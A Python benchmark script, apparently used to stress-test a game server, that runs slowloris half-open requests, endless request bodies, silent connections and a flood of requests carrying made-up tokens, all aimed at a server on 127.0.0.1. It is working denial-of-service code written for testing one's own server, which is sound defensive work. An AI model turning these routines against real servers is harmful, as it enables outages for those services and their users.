"""Attacks on a server, each a crowd of strangers without a token, from one address.

`server_attack.py` runs them as processes of their own while people use the server. By
hand, against a server of your own:

    python benchmarks/attacks.py half_open 8040 --count 1500
"""

import argparse
import asyncio
import itertools
import json
import random
import secrets
import time

HEAD = (
    "POST /api/join HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
)
PATHS = ("/api/me", "/api/health", "/", "/static/world.js", "/api/game")


async def _hold(port, opening, drip):
    """A connection that sends a little now and then, and is opened again when closed."""
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(opening)
            while True:
                try:
                    # A server that closes the connection ends this wait at once.
                    async with asyncio.timeout(random.uniform(2, 4)):
                        if not await reader.read(1024):
                            break
                except TimeoutError:
                    writer.write(drip)
            writer.close()
        except OSError:
            pass
        # A stranger needs a moment to open the next one.
        await asyncio.sleep(random.uniform(0.5, 1.5))


async def half_open(port, count):
    """Requests whose head never ends (slowloris)."""
    opening = HEAD.encode()
    await asyncio.gather(
        *(_hold(port, opening, b"x-more: 1\r\n") for _ in range(count))
    )


async def slow_body(port, count):
    """Requests whose body never ends."""
    opening = f"{HEAD}content-length: 60000\r\n\r\n{{".encode()
    await asyncio.gather(*(_hold(port, opening, b" ") for _ in range(count)))


async def silent(port, count):
    """Connections that never send anything."""
    await asyncio.gather(*(_hold(port, b"", b"") for _ in range(count)))


async def requests(port, count):
    """Many whole requests a second: no token, made-up tokens, pages, wrong invites."""
    connections = [asyncio.Queue(1) for _ in range(20)]
    for queue in connections:
        queue.put_nowait(None)
    pending = set()
    begun = time.monotonic()
    for number in itertools.count():
        task = asyncio.create_task(_ask(port, connections[number % 20], number))
        pending.add(task)
        task.add_done_callback(pending.discard)
        await asyncio.sleep(max(0.0, begun + number / count - time.monotonic()))
        while len(pending) > 2000:
            await asyncio.sleep(0.01)


async def _ask(port, queue, number):
    opened = await queue.get()
    try:
        if opened is None:
            opened = await asyncio.open_connection("127.0.0.1", port)
        reader, writer = opened
        writer.write(_request(number))
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        length = int(head.partition(b"content-length: ")[2].partition(b"\r\n")[0])
        await reader.readexactly(length)
    except (OSError, ValueError, asyncio.IncompleteReadError):
        opened = None
    queue.put_nowait(opened)


def _request(number):
    if number % 4 == 0:
        body = json.dumps({"invite": secrets.token_urlsafe(32)})
        head = HEAD.replace("join", "invite") + f"content-length: {len(body)}\r\n\r\n"
        return (head + body).encode()
    head = f"GET {PATHS[number % len(PATHS)]} HTTP/1.1\r\nhost: 127.0.0.1\r\n"
    if number % 2:
        head += f"authorization: Bearer {secrets.token_urlsafe(32)}\r\n"
    return f"{head}\r\n".encode()


async def flood_and_half_open(port, count):
    """1,500 half-open connections beside the requests."""
    await asyncio.gather(requests(port, count), half_open(port, 3 * count))


ATTACKS = {
    attack.__name__: attack
    for attack in (half_open, slow_body, silent, requests, flood_and_half_open)
}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument(
        "--count", type=int, default=1500, help="connections, or a rate"
    )
    args = parser.parse_args()
    asyncio.run(ATTACKS[args.attack](args.port, args.count))


if __name__ == "__main__":
    main()
